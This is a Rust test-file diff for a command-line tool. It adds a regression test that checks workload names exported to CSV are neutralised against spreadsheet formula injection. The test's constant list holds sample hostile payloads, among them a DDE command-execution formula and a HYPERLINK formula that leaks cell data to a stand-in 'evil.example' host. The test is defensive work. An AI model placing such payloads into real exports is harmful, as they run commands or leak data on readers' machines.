@@ -43,6 +43,15 @@ fn read_csv(text: &str) -> Vec<Vec<String>> {
     records
 }
 
+/// `rel04d <command> --output csv` on `env`'s database, read back.
+fn export(env: &TestEnv, command: &str) -> Vec<Vec<String>> {
+    read_csv(&stdout_of(
+        rel04d()
+            .args([command, "--output", "csv"])
+            .env("REL04D__DATABASE__URL", &env.database_url),
+    ))
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn controls_and_history_export_every_row_as_rfc_4180() {
     const WORKLOADS: usize = 130;
@@ -62,13 +71,7 @@ async fn controls_and_history_export_every_row_as_rfc_4180() {
     }
     let env = TestEnv::start(sim, &format!("[policies.global]\n{ALL_TRUE}\n")).await;
     env.sweep().await;
-    let export = |command: &str| {
-        read_csv(&stdout_of(
-            rel04d()
-                .args([command, "--output", "csv"])
-                .env("REL04D__DATABASE__URL", &env.database_url),
-        ))
-    };
+    let export = |command| export(&env, command);
 
     let controls = export("controls");
     assert_eq!(controls[0][..3], ["state", "muted", "workload_name"]);
@@ -91,5 +94,44 @@ async fn controls_and_history_export_every_row_as_rfc_4180() {
     assert_eq!(history[0][..3], ["id", "occurred_at", "workload_id"]);
     assert_eq!(history.len(), env.transitions().await.len() + 1);
     assert!(history.len() > 2 * WORKLOADS, "{}", history.len());
+    env.stop().await;
+}
+
+/// Workload names chosen by a hostile owner to run in the reader's spreadsheet
+/// (the issue's own examples, and a tab and a CR before a formula).
+const FORMULA_NAMES: [&str; 6] = [
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd",
+    "-2+3+cmd",
+    "+HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
+    "\t=1+1",
+    "\r=1+1",
+];
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn cells_that_would_run_as_formulas_are_exported_as_text() {
+    let sim = Simulator::new(REGION);
+    for name in FORMULA_NAMES {
+        sim.add_workload(workload(name, answer(&ALL_FOUR, &[], true)));
+    }
+    let env = TestEnv::start(sim, &format!("[policies.global]\n{ALL_TRUE}\n")).await;
+    env.sweep().await;
+    let export = |command| export(&env, command);
+    let controls = export("controls");
+    assert_eq!(controls.len(), FORMULA_NAMES.len() + 1);
+    for name in FORMULA_NAMES {
+        assert!(
+            controls.iter().any(|row| row[2] == format!("'{name}")),
+            "{name:?} not defused: {controls:?}"
+        );
+    }
+    for rows in [controls, export("history")] {
+        for cell in rows.iter().flatten() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a live formula: {cell:?}"
+            );
+        }
+    }
     env.stop().await;
 }
